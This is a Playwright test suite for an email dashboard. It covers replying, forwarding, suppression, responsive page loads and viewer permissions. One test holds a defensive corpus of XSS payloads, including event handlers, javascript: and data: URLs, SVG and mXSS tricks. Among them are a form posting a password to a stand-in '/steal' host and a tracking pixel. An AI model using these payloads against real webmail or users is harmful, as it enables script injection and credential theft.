// The dashboard as a new admin lives in it: mail arrives, is answered, forwarded and
// suppressed; every page loads directly at desktop and phone width; hostile inbound
// HTML runs nothing and fetches nothing. Screenshots of each step land in
// test-results/dashboard/ (look at them: a layout bug does not fail an assertion).
import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { createMailbox, inviteNewMember, signUp, uniqueEmail } from "./helpers";

const PHONE = { width: 390, height: 844 };
const DESKTOP = { width: 1280, height: 800 };

async function shot(page: Page, name: string) {
  await page.screenshot({ path: `test-results/dashboard/${name}.png`, fullPage: true });
}

async function issueKey(page: Page, address: string): Promise<string> {
  await page.goto("/keys");
  await page.getByLabel("Mailbox", { exact: true }).selectOption({ label: address });
  await page.getByLabel("Role", { exact: true }).selectOption("read_write");
  await page.getByRole("button", { name: "Create key" }).click();
  return (await page.getByTestId("key-secret").textContent())!.trim();
}

function api(request: APIRequestContext, key: string) {
  const headers = { authorization: `Bearer ${key}` };
  return {
    whoami: async () => (await request.get("/api/v1/whoami", { headers })).json(),
    send: (mailboxId: string, data: unknown) =>
      request.post(`/api/v1/mailboxes/${mailboxId}/messages`, { headers: { ...headers, "content-type": "application/json" }, data }),
    list: async (mailboxId: string, query: string) => (await request.get(`/api/v1/mailboxes/${mailboxId}/messages?${query}`, { headers })).json(),
    get: async (mailboxId: string, id: string) => (await request.get(`/api/v1/mailboxes/${mailboxId}/messages/${id}`, { headers })).json(),
  };
}

/** Opens a mailbox's mail from the mailbox list and waits until a thread with this subject has arrived. */
async function openThread(page: Page, address: string, subject: RegExp) {
  await page.goto("/mailboxes");
  await page.getByTestId("mailbox-row").filter({ hasText: address }).getByRole("link").first().click();
  await expect(page).toHaveURL(/\/mailboxes\/[0-9a-f-]{36}$/);
  const link = page.getByRole("list", { name: "Threads" }).getByRole("link", { name: subject });
  await expect(async () => {
    await page.reload();
    await expect(link).toBeVisible({ timeout: 1000 });
  }).toPass({ timeout: 20_000 });
  return link;
}

test("a new admin receives mail, replies, forwards and suppresses from the dashboard", async ({ page, request }) => {
  test.setTimeout(120_000);
  await page.setViewportSize(DESKTOP);
  await signUp(page, uniqueEmail("journey"), "Journey Inc");
  await shot(page, "01-overview-new-tenant");
  const desk = await createMailbox(page, "desk");
  const customer = await createMailbox(page, "customer");
  await shot(page, "02-mailboxes");
  const key = await issueKey(page, customer);
  await shot(page, "03-key-shown-once");
  const customerApi = api(request, key);
  const customerId = (await customerApi.whoami()).mailbox.id;

  // The customer writes to the desk through REST; the local provider delivers it.
  const sent = await customerApi.send(customerId, { to: [desk], subject: "Where is my order?", text: "Order 1042 has not arrived." });
  expect(sent.status()).toBe(202);
  const original = await sent.json();

  const link = await openThread(page, desk, /Where is my order\?/);
  await expect(link).toHaveAttribute("data-unread", "true");
  await shot(page, "04-message-arrived");
  await link.click();
  const view = page.getByTestId("thread-view");
  await expect(view.getByText("Order 1042 has not arrived.")).toBeVisible();
  await expect(view.getByTestId("message-status").first()).toHaveText("received");
  await shot(page, "05-thread");

  // Reply from the dashboard.
  await view.getByRole("button", { name: "Reply", exact: true }).click();
  const replyForm = page.getByRole("form", { name: "Reply" });
  await expect(replyForm).toContainText(customer);
  await replyForm.getByLabel("Message").fill("It ships tomorrow.");
  await replyForm.getByRole("button", { name: "Send" }).click();
  await expect(page.getByRole("status").filter({ hasText: `Queued for ${customer}` })).toBeVisible();
  await expect(view.getByText("It ships tomorrow.")).toBeVisible();
  await shot(page, "06-replied");

  // The customer's mailbox has the reply, threaded under the original.
  let reply: { id: string; inReplyTo: string; references: string[]; threadId: string } | undefined;
  await expect(async () => {
    const inbox = await customerApi.list(customerId, "direction=inbound");
    const summary = inbox.data.find((m: { subject: string }) => m.subject === "Re: Where is my order?");
    expect(summary).toBeTruthy();
    reply = await customerApi.get(customerId, summary.id);
  }).toPass({ timeout: 20_000 });
  expect(reply!.inReplyTo).toBe(original.messageId);
  expect(reply!.references).toEqual([original.messageId]);
  expect(reply!.threadId).toBe(original.threadId);

  // The reply's delivery shows in the thread once the outbox has run.
  await expect(async () => {
    await page.reload();
    await expect(view.getByTestId("message").last().getByTestId("message-status")).toHaveText(/sent|delivered/, { timeout: 1000 });
  }).toPass({ timeout: 20_000 });
  await view.getByTestId("message").last().getByText(/Delivery history/).click();
  await expect(view.getByTestId("delivery-history").last()).toContainText("#1 · sent");

  // Forward the customer's message to a colleague outside this deployment.
  await view.getByTestId("message").first().getByRole("button", { name: "Forward" }).click();
  const fwdForm = page.getByRole("form", { name: "Forward" });
  await fwdForm.getByLabel("To", { exact: true }).fill("Team Lead <lead@elsewhere.test>");
  await fwdForm.getByLabel("Note (optional)").fill("Please check the courier.");
  await fwdForm.getByRole("button", { name: "Send" }).click();
  await expect(page.getByRole("status").filter({ hasText: "Queued for lead@elsewhere.test" })).toBeVisible();
  await expect(view.getByTestId("message")).toHaveCount(3);
  await shot(page, "07-forwarded");

  // Reading it marks nothing by itself (an agent may be waiting on unread mail); the admin does.
  const row = page.getByRole("list", { name: "Threads" }).getByRole("link", { name: /Where is my order/ });
  await expect(row).toHaveAttribute("data-unread", "true");
  await view.getByRole("button", { name: "Mark thread as read" }).click();
  await expect(page.getByRole("status").filter({ hasText: "Marked as read." })).toBeVisible();
  await expect(row).not.toHaveAttribute("data-unread", "true");
  await view.getByTestId("message").first().getByLabel("Add a label").fill("shipping");
  await view.getByTestId("message").first().getByLabel("Add a label").press("Enter");
  await expect(view.getByTestId("message").first().getByTestId("label")).toHaveText(["shipping×"]);
  await page.goto("/outbox");
  await expect(page.getByRole("row").filter({ hasText: "lead@elsewhere.test" })).toContainText("Fwd: Where is my order?");

  // Suppress an address, then try to write to it: refused, with the address named.
  await page.goto("/mailboxes");
  await page.getByTestId("mailbox-row").filter({ hasText: desk }).getByRole("link").first().click();
  await page.getByRole("link", { name: "Suppressions" }).click();
  await page.getByLabel("Address to suppress").fill("gone@elsewhere.test");
  await page.getByRole("button", { name: "Suppress address" }).click();
  await expect(page.getByTestId("suppression-row").filter({ hasText: "gone@elsewhere.test" })).toContainText("manual");
  await shot(page, "08-suppressed");
  await page.getByRole("link", { name: "Mail", exact: true }).click();
  await page.getByRole("button", { name: "New message" }).click();
  const compose = page.getByRole("form", { name: "New message" });
  await compose.getByLabel("To", { exact: true }).fill("gone@elsewhere.test");
  await compose.getByLabel("Subject", { exact: true }).fill("Are you there?");
  await compose.getByLabel("Message", { exact: true }).fill("Hello?");
  await compose.getByRole("button", { name: "Send" }).click();
  await expect(compose.getByRole("alert")).toHaveText(
    "This mailbox may not send to gone@elsewhere.test (suppressed). If the address can receive mail again, remove it under Suppressions.",
  );
  await shot(page, "09-send-refused");
});

test("every dashboard page answers 200 on a full load and fits a 390 px phone", async ({ page, request }) => {
  test.setTimeout(300_000); // 34 full page loads with screenshots
  await page.setViewportSize(DESKTOP);
  await signUp(page, uniqueEmail("pages"), "Pages Ltd");
  const desk = await createMailbox(page, "desk");
  const other = await createMailbox(page, "a-rather-long-mailbox-name-for-wrapping");
  const key = await issueKey(page, other);
  const otherApi = api(request, key);
  const otherId = (await otherApi.whoami()).mailbox.id;
  const html = `<h1>Newsletter</h1><table width="900"><tr><td>A table wider than a phone, inside the sandboxed frame.</td></tr></table>`;
  expect((await otherApi.send(otherId, { to: [desk], subject: "Weekly newsletter", text: "Newsletter", html })).status()).toBe(202);
  const link = await openThread(page, desk, /Weekly newsletter/);
  await link.click();
  await expect(page.getByTestId("message-html")).toBeVisible();
  const threadUrl = new URL(page.url());
  const mailbox = threadUrl.pathname;
  await page.goto("/management-keys");
  await page.getByRole("button", { name: "Create key" }).click();
  await expect(page.getByTestId("key-secret")).toBeVisible();

  // A tenant-wide receive allow list that names nobody here: the next mail is held in quarantine.
  const mgmtKey = (await page.getByTestId("key-secret").textContent())!.trim();
  const allowed = await request.post("/api/v1/lists/receive/allow", {
    headers: { authorization: `Bearer ${mgmtKey}`, "content-type": "application/json" },
    data: { entry: "@partners.example" },
  });
  expect(allowed.status()).toBe(201);
  expect((await otherApi.send(otherId, { to: [desk], subject: "Held for review", text: "Please release me", html })).status()).toBe(202);
  await page.goto("/quarantine");
  const heldLink = page.getByRole("link", { name: "Held for review" });
  await expect(async () => {
    await page.reload();
    await expect(heldLink).toBeVisible({ timeout: 1_000 });
  }).toPass({ timeout: 30_000 });
  const heldPath = new URL((await heldLink.getAttribute("href"))!, page.url()).pathname;

  const pages = [
    "/overview",
    "/mailboxes",
    mailbox,
    `${mailbox}${threadUrl.search}`,
    `${mailbox}/drafts`,
    `${mailbox}/usage`,
    `${mailbox}/suppressions`,
    `${mailbox}/settings`,
    "/keys",
    "/management-keys",
    "/domains",
    "/members",
    "/approvals",
    "/outbox",
    "/audit",
    "/account",
    "/guardrails",
    "/quarantine",
    heldPath,
  ];
  for (const [label, viewport] of [["desktop", DESKTOP], ["phone", PHONE]] as const) {
    await page.setViewportSize(viewport);
    for (const path of pages) {
      const response = await page.goto(path);
      expect(response?.status(), `${path} at ${label}`).toBe(200);
      // A dashboard URL never leaves for another site in a Referer.
      expect(response?.headers()["referrer-policy"], path).toBe("same-origin");
      await page.waitForLoadState("networkidle");
      const name = `${label}${path.replace(/[/?=]/g, "_").replace(/[0-9a-f-]{36}/g, "id")}`;
      await shot(page, `pages/${name}`);
      if (label === "phone") {
        const width = await page.evaluate(() => document.documentElement.scrollWidth);
        expect(width, `${path} scrolls sideways at 390 px`).toBeLessThanOrEqual(390);
      }
    }
  }

  // At phone width the navigation is behind a menu button.
  await page.goto("/overview");
  const nav = page.getByRole("navigation", { name: "Dashboard" });
  await expect(nav).toBeHidden();
  await page.getByRole("button", { name: "Menu" }).click();
  await expect(nav).toBeVisible();
  await shot(page, "pages/phone_menu_open");
  await nav.getByRole("link", { name: "Mailboxes" }).click();
  await expect(page).toHaveURL(/\/mailboxes$/);
  await expect(nav).toBeHidden();
});

// Inbound HTML of the kinds used against webmail: none may run script, navigate,
// submit or load anything until the reader allows remote images.
const REMOTE = "http://remote.example.test";
const XSS_CORPUS = [
  `<p id="safe">Visible text survives.</p>`,
  `<script>alert("script")</script>`,
  `<img src="x" onerror="alert('onerror')">`,
  `<body onload="alert('onload')"><div onclick="alert('click')" onmouseover="alert('over')">hover me</div></body>`,
  `<a id="js-link" href="javascript:alert('js-url')">javascript link</a>`,
  `<a id="data-link" href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">data link</a>`,
  `<iframe src="javascript:alert('iframe')"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg-script")</script><circle r="5" onload="alert('svg-onload')"/></svg>`,
  `<svg><a xlink:href="javascript:alert('svg-link')"><text y="20">svg link</text></a></svg>`,
  `<div style="width: expression(alert('expression'))">css expression</div>`,
  `<div style="background-image: url(${REMOTE}/css-background.png)">css url</div>`,
  `<style>@import url(${REMOTE}/import.css); body { background: url(${REMOTE}/style-bg.png) }</style>`,
  `<link rel="stylesheet" href="${REMOTE}/sheet.css"><link rel="prefetch" href="${REMOTE}/prefetch">`,
  `<meta http-equiv="refresh" content="0; url=${REMOTE}/refresh">`,
  `<base href="${REMOTE}/"><a href="relative">relative link</a>`,
  `<form action="${REMOTE}/steal" method="post"><input name="password" value="x"><button formaction="${REMOTE}/steal2">Submit</button></form>`,
  `<img id="tracker" src="${REMOTE}/pixel.png" width="1" height="1"><img srcset="${REMOTE}/srcset.png 2x">`,
  `<video poster="${REMOTE}/poster.png" src="${REMOTE}/movie.mp4"></video><audio src="${REMOTE}/sound.mp3" autoplay></audio>`,
  `<object data="${REMOTE}/object.swf"></object><embed src="${REMOTE}/embed.swf">`,
  `<table background="${REMOTE}/table-bg.png"><tr><td>table</td></tr></table>`,
  `<details open ontoggle="alert('ontoggle')"><summary>details</summary></details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>`,
  `<a href="${REMOTE}/ping" ping="${REMOTE}/ping-beacon">ping link</a>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline data image">`,
].join("\n");

test("hostile inbound HTML runs no script and loads nothing until remote images are allowed", async ({ page, request }) => {
  await page.setViewportSize(DESKTOP);
  await signUp(page, uniqueEmail("xss"), "XSS Corp");
  const desk = await createMailbox(page, "desk");
  const attacker = await createMailbox(page, "attacker");
  const attackerApi = api(request, await issueKey(page, attacker));
  const attackerId = (await attackerApi.whoami()).mailbox.id;
  expect((await attackerApi.send(attackerId, { to: [desk], subject: "Invoice overdue", text: "see html", html: XSS_CORPUS })).status()).toBe(202);
  const link = await openThread(page, desk, /Invoice overdue/);

  const dialogs: string[] = [];
  const consoleErrors: string[] = [];
  const pageErrors: string[] = [];
  const outside: string[] = [];
  const origin = new URL(page.url()).origin;
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on("console", (m) => {
    if (m.type() === "error") consoleErrors.push(m.text());
  });
  page.on("pageerror", (e) => pageErrors.push(e.message));
  page.on("request", (r) => {
    if (!r.url().startsWith(origin) && !r.url().startsWith("data:") && !r.url().startsWith("about:")) outside.push(r.url());
  });

  await link.click();
  const frame = page.getByTestId("message-html");
  await expect(frame).toBeVisible();
  const body = page.frameLocator('[data-testid="message-html"]');
  await expect(body.locator("#safe")).toHaveText("Visible text survives.");
  // Exercise what a reader does: hover, click the links and the toggles.
  await body.getByText("hover me").hover();
  await body.getByText("hover me").click();
  await body.locator("#js-link").click({ timeout: 2000 }).catch(() => {});
  await page.reload();
  await expect(page.frameLocator('[data-testid="message-html"]').locator("#safe")).toBeVisible();
  await page.waitForLoadState("networkidle");
  await shot(page, "10-xss-corpus");

  const srcdoc = (await frame.getAttribute("srcdoc")) ?? "";
  for (const banned of ["<script", "onerror", "onload", "onclick", "ontoggle", "javascript:", "<iframe", "<form", "<base", "<meta http-equiv=\"refresh", "<link", "<object", "<embed", "expression(", "remote.example.test"]) {
    expect(srcdoc.toLowerCase(), banned).not.toContain(banned.toLowerCase());
  }
  expect(await frame.getAttribute("sandbox")).toBe("allow-popups allow-popups-to-escape-sandbox");
  expect(dialogs).toEqual([]);
  expect(pageErrors).toEqual([]);
  expect(consoleErrors).toEqual([]);
  expect(outside).toEqual([]);

  // Only when the reader allows it does the page ask the remote host for images.
  await page.getByRole("button", { name: "Show remote images" }).click();
  await expect.poll(() => outside.some((u) => u.startsWith(`${REMOTE}/pixel.png`))).toBe(true);
  expect(dialogs).toEqual([]);
});

test("a viewer reads mail but gets no compose, reply, forward or filing controls", async ({ page, browser, request }) => {
  await page.setViewportSize(DESKTOP);
  await signUp(page, uniqueEmail("owner"), "Viewer Mail");
  const desk = await createMailbox(page, "desk");
  const outsider = await createMailbox(page, "outsider");
  const outsiderApi = api(request, await issueKey(page, outsider));
  expect((await outsiderApi.send((await outsiderApi.whoami()).mailbox.id, { to: [desk], subject: "For the viewer", text: "Read only" })).status()).toBe(202);
  await openThread(page, desk, /For the viewer/);
  const mailboxUrl = page.url();

  const { context, invitee: viewer } = await inviteNewMember(page, browser, uniqueEmail("viewer"), "viewer", DESKTOP);
  await viewer.goto(mailboxUrl);
  await viewer.getByRole("list", { name: "Threads" }).getByRole("link", { name: /For the viewer/ }).click();
  await expect(viewer.getByTestId("thread-view").getByText("Read only")).toBeVisible();
  for (const name of ["New message", "Reply", "Reply all", "Forward", "Mark read", "Mark thread as read"]) {
    await expect(viewer.getByRole("button", { name, exact: true })).toHaveCount(0);
  }
  await expect(viewer.getByLabel("Add a label")).toHaveCount(0);
  await viewer.getByRole("link", { name: "Suppressions" }).click();
  await expect(viewer.getByRole("button", { name: "Suppress address" })).toHaveCount(0);
  await viewer.screenshot({ path: "test-results/dashboard/11-viewer-thread.png", fullPage: true });
  await context.close();
});
